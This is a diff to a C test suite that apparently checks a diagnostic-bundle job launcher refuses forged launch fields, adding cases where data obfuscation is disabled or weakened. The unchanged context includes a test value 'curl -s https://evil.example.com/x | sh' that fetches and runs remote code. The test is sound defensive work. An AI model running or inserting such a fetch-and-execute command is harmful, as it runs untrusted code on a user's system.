@@ -115,7 +115,8 @@ static void expect_refused(const struct mgo_act *act, const char *check)
 	"\"caseManagementAccountSecretRef\":{\"name\":\"case-creds\"},"                      \
 	"\"host\":\"sftp.example.com\"}},"                                                   \
 	"\"storage\":{\"type\":\"PersistentVolume\",\"persistentVolume\":{"                  \
-	"\"claim\":{\"name\":\"gather-pvc\"},\"subPath\":\"runs\"}}}"
+	"\"claim\":{\"name\":\"gather-pvc\"},\"subPath\":\"runs\"}},"                   \
+	"\"obfuscate\":{\"enabled\":true,\"configMapRef\":{\"name\":\"clean-config\"}}}"
 
 static json_t *get(const char *path)
 {
@@ -313,6 +314,14 @@ static void evil_command(struct mgo_act *a)
 	set(&a->intent.command[2], "curl -s https://evil.example.com/x | sh");
 	a->intent.n_command = 3;
 }
+/* the bundle leaves unobfuscated, or cleaned by a configuration that
+ * keeps everything */
+static void no_obfuscation(struct mgo_act *a)
+{
+	a->intent.obfuscate = false;
+	set(&a->intent.obfuscate_config, NULL);
+}
+static void lax_clean_config(struct mgo_act *a) { set(&a->intent.obfuscate_config, "keeps-everything"); }
 static void no_upload(struct mgo_act *a)
 {
 	a->intent.upload = false;
@@ -332,6 +341,7 @@ Test(compromised, forged_launch_fields_make_no_job)
 		{"timeout", huge_timeout},       {"audit", no_audit},
 		{"sftp_internal_user", internal_user}, {"upload", no_upload},
 		{"since", evil_since},           {"command", evil_command},
+		{"obfuscate", no_obfuscation},   {"obfuscate_config", lax_clean_config},
 	};
 	static const char *const allow[] = {ALLOWED, NULL};
 
